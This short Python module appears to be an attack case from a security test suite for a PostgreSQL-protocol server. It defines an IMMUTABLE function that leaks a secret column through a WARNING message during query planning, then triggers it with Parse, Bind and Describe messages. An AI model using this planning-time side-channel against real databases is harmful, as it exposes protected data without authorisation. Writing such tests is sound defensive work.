"""Has a statement described whose columns' names are made of what it reads while it is planned."""

from attacks.frames import SYNC, ask, bind, describe, parse
from attacks.talking import Server

WANTS = "read"
SETUP = """
CREATE FUNCTION shout() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
  BEGIN RAISE WARNING '%', (SELECT max(secret) FROM public.vlt_account); RETURN 1; END $$
"""


def attack(server: Server) -> bytes:
    with server.login() as client:
        statement = parse(b"SELECT name FROM customer WHERE id = shout()")
        return ask(client, statement, bind(), describe(), SYNC)
